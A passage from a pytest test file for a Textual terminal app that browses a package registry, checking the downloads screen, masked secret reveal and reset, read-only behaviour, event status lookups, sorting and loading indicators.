        await until(pilot, lambda: screen.refreshing and screen.fetching, timeout=10)
        assert "asking the registry again" in label(app, "#pager")
        await settle(pilot, timeout=30)
        assert not screen.fetching and screen.loaded > 0 and label(app, "#pager").startswith(f"{screen.loaded:,} downloads")


@pytest.mark.parametrize("attempt", range(6))
async def test_downloads_over_real_http_always_end_loading(
    attempt: int, live_server: str, world: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Over loopback HTTP (where the old screen hung 6 times in 16 under Textual's overlay): every load ends, shown."""
    covered: list[Any] = []
    cover = DownloadsScreen._cover
    monkeypatch.setattr(DownloadsScreen, "_cover", lambda self, widget: (covered.append(widget), cover(self, widget))[1])
    from flextui.api.cache import PageCache
    from flextui.api.http import Session
    from flextui.context import AppContext
    from flextui.ui.app import FlexApp

    session = Session(
        live_server,
        name="live",
        credentials=Credentials(ADMIN[0], ADMIN[1], world.seed_token(ADMIN[0])),
        user=ADMIN[0],
        cache=PageCache(":memory:"),
        registry_tenant=world.tenant_id,
    )
    app = FlexApp(AppContext("live", session, ADMIN[0], now_ms=lambda: FIXED_NOW_MS, start=["downloads"]))
    async with app.run_test(size=(120, 40)) as pilot:
        await until(
            pilot, lambda: isinstance(app.screen, DownloadsScreen) and app.screen.loaded > 0 and not app.screen.fetching, timeout=20
        )
        screen = app.screen
        assert not covered and screen._cover_widget is None, "the screen was never hidden behind a spinner"
        assert label(app, "#pager").startswith(f"{screen.loaded} downloads") and error_of(app) == ""
        sent = session.requests_sent
        await pilot.press("ctrl+r")
        await until(pilot, lambda: session.requests_sent > sent and not screen.fetching, timeout=20)
        assert label(app, "#pager").startswith(f"{screen.loaded} downloads") and not covered


async def test_downloads_narrow_terminal_toggles_chart_and_top() -> None:
    app = build_app(start=["downloads"])
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot)
        screen = app.screen
        assert screen.has_class("-narrow") and not screen.query_one("#top-panel").display
        await pilot.press("t")
        await pilot.pause()
        assert screen.query_one("#top-panel").display and not screen.query_one(BarChart).display
        await pilot.press("g")
        await pilot.pause()
        assert not screen.query_one("#dl-upper").display


# -- secret and event status ----------------------------------------------------------------------------------


def secret_of(app: Any, user: str = ADMIN[0]) -> str:
    return registry_store(world_of(app)).secret(user)


async def test_secret_is_masked_revealed_on_demand_and_forgotten_on_leaving() -> None:
    app = build_app(start=["secret"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        screen = app.screen
        assert isinstance(screen, SecretScreen)
        assert MASK in label(app, "#secret-value") and app.ctx.session.requests_sent == 0, "nothing is fetched until asked"
        await pilot.press("v")
        await settle(pilot)
        secret = secret_of(app)
        assert label(app, "#secret-value") == secret
        await pilot.press("v")
        await pilot.pause()
        assert MASK in label(app, "#secret-value") and screen._secret is None
        await pilot.press("v")
        await settle(pilot)
        assert label(app, "#secret-value") == secret
        await command(pilot, "projects")
        assert screen._secret is None and not screen.revealed
        await command(pilot, "secret")
        assert app.screen is screen and MASK in label(app, "#secret-value")
        rows_in_cache = app.ctx.session.cache._db.execute("SELECT body FROM pages").fetchall()
        assert rows_in_cache and all(secret not in body for (body,) in rows_in_cache)
        assert secret not in app.export_screenshot()
        await pilot.press("c")
        await settle(pilot)
        assert any("Copied your registry secret" in str(n.message) for n in app._notifications)
        assert app.clipboard != secret, "a secret is sent to the terminal but not kept for ctrl+y"
        assert MASK in label(app, "#secret-value")


async def test_secret_reset_validates_inline_confirms_and_shows_the_new_one_once() -> None:
    app = build_app(start=["secret"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        old = secret_of(app)
        await pilot.press("r")
        assert isinstance(app.screen, FormScreen)
        sent = app.ctx.session.requests_sent
        app.screen.query_one("#field-secret", Input).value = "weakpass"
        await pilot.pause()
        hint = label(app, "#hint-secret")
        assert "uppercase" in hint and "digit" in hint
        await pilot.press("ctrl+s")
        await pilot.pause()
        assert isinstance(app.screen, FormScreen) and app.ctx.session.requests_sent == sent
        app.screen.query_one("#field-secret", Input).value = "Chosen-Secret-7"
        app.screen.query_one("#field-repeat", Input).value = "Chosen-Secret-8"
        await pilot.pause()
        await pilot.press("ctrl+s")
        await pilot.pause()
        assert isinstance(app.screen, FormScreen) and "does not match" in label(app, "#hint-repeat")
        app.screen.query_one("#field-repeat", Input).value = "Chosen-Secret-7"
        await pilot.pause()
        await pilot.press("ctrl+s")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        assert "stops working at once" in label(app, "#confirm-body") and "15 characters" in label(app, "#confirm-body")
        await pilot.press("escape")
        await until(pilot, lambda: isinstance(app.screen, SecretScreen))
        assert secret_of(app) == old and app.ctx.session.requests_sent == sent
        await pilot.press("r")
        app.screen.query_one("#field-secret", Input).value = "Chosen-Secret-7"
        app.screen.query_one("#field-repeat", Input).value = "Chosen-Secret-7"
        await pilot.pause()
        await pilot.press("ctrl+s")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        await pilot.click("#confirm")
        await until(pilot, lambda: isinstance(app.screen, ValueScreen))
        assert secret_of(app) == "Chosen-Secret-7" == app.screen.query_one("#value-text").text
        assert "shown once" in label(app, "#value-warning")
        # not copied: the first Escape says the value will be gone instead of closing; the second closes
        shown = app.screen
        await pilot.press("escape")
        await until(pilot, lambda: "Not copied" in label(app, "#value-warning"))
        assert app.screen is shown and str(shown.query_one("#done", Button).label) == "Close anyway"
        await pilot.press("escape")
        await until(pilot, lambda: isinstance(app.screen, SecretScreen))
        # a random one: leave the field empty
        await pilot.press("r")
        assert not app.screen.query_one("#row-repeat").display
        await pilot.press("ctrl+s")
        await until(pilot, lambda: isinstance(app.screen, ConfirmScreen))
        assert "random secret" in label(app, "#confirm-body")
        await pilot.click("#confirm")
        await until(pilot, lambda: isinstance(app.screen, ValueScreen))
        fresh = secret_of(app)
        assert fresh != "Chosen-Secret-7" and secret_problems(fresh) == [] and app.screen.query_one("#value-text").text == fresh
        rows_in_cache = app.ctx.session.cache._db.execute("SELECT body FROM pages").fetchall()
        assert all(fresh not in body and "Chosen-Secret-7" not in body for (body,) in rows_in_cache)


async def test_secret_reset_hidden_and_refused_on_read_only() -> None:
    app = build_app(start=["secret"], read_only=True)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        screen = app.screen
        await pilot.press("r")
        await pilot.pause()
        assert app.screen is screen
        enabled = {b.binding.action for b in screen.active_bindings.values() if b.enabled}
        assert "reset" not in enabled and "toggle_reveal" in enabled
        screen.action_reset()
        await pilot.pause()
        assert app.screen is screen and "read-only" in error_of(app)
        assert "read-only" in label(app, "#secret-help")


@pytest.mark.parametrize("read_only", [False, True], ids=["writable", "read-only"])
async def test_secret_help_offers_reset_only_where_it_resets(read_only: bool) -> None:
    """On a read-only profile the help still offered `r reset (…)`, then said resetting is disabled: keys that change
    something are not offered there (README), only said to be off."""
    app = build_app(start=["secret"], read_only=read_only)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        help_text = label(app, "#secret-help")
        assert help_text.startswith("v reveal · c copy"), help_text
        assert ("r reset" in help_text) is not read_only, help_text
        assert ("read-only" in help_text) is read_only, help_text


async def test_event_status_for_known_unknown_and_each_state() -> None:
    app = build_app(start=["secret"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        screen = app.screen
        store = registry_store(world_of(app))
        field = screen.query_one("#q-event", Input)
        assert field.value == ADMIN[0]

        async def ask(user: str) -> str:
            field.value = user
            field.focus()
            await pilot.press("enter")
            await settle(pilot)
            return label(app, "#event-result")

        assert "Processed" in await ask(CUSTOMER[0]) and screen.query_one("#event-result").has_class("-success")
        by_status: dict[str, str] = {}
        for name in world_of(app).users:
            by_status.setdefault(store.event_status(name) or "", name)
        assert "In-Progress" in await ask(by_status["In-Progress"]) and screen.query_one("#event-result").has_class("-warning")
        assert "Cancelled" in await ask(by_status["Cancelled"]) and screen.query_one("#event-result").has_class("-error")
        text = await ask("ghost@nowhere.example")
        assert "not found" in text and "No record found!" in text and error_of(app) == ""
        await pilot.press("u")
        assert screen.focused is field


async def test_f_goes_to_the_download_logs_filter_fields() -> None:
    """The download log has filter fields, and `f` ("filters: to the filter fields") did nothing there."""
    app = build_app(start=["downloads"])
    async with app.run_test(size=(120, 40)) as pilot:
        await until(pilot, lambda: isinstance(app.screen, DownloadsScreen) and app.screen.is_mounted)
        await settle(pilot)
        app.screen.query_one("#dl-grid").focus()
        await pilot.press("f")
        await until(pilot, lambda: app.focused is app.screen.query_one("#dl-from", Input))


async def test_sort_shows_in_the_header_and_the_pager() -> None:
    """`:sort repos desc` sorted the projects, but the pager still said "sorted by name" and the column's ▼ was cut
    off its title ("Repos ▼" in a column as wide as "Repos")."""
    app = build_app(start=["projects"])
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot)
        await command(pilot, "sort repos desc")
        await until(pilot, lambda: "sorted by Repos, descending" in label(app, "#pager"))
        counts = [int(r["repo_count"]) for r in rows(app)]
        assert counts == sorted(counts, reverse=True)
        table = app.screen.query_one(ResourceTable)
        column = table.columns[next(k for k in table.columns if k.value == "repo_count")]
        assert str(column.label).endswith("▼") and column.get_render_width(table) >= column.label.cell_len + 2 * table.cell_padding
        await command(pilot, "sort")
        await until(pilot, lambda: "sorted by name" in label(app, "#pager"))


async def test_a_list_says_loading_while_a_slow_server_answers() -> None:
    """The artifacts list (and every registry list but the projects) showed an empty pager line until its page came."""
    import threading

    from flextui.sim.faults import FaultPlan

    plan = FaultPlan()
    answer = threading.Event()
    plan.add(r"/artifacts", kind="slow", hold=answer, times=1000)
    app = build_app(start=["artifacts", "compass-2026-q2/compass-server"], faults=plan)
    async with app.run_test(size=(120, 40)) as pilot:
        await until(pilot, lambda: isinstance(app.screen, ArtifactsScreen) and "loading…" in str(app.screen.query_one("#pager").render()))
        answer.set()
        await settle(pilot)
        assert "loading…" not in str(app.screen.query_one("#pager").render())
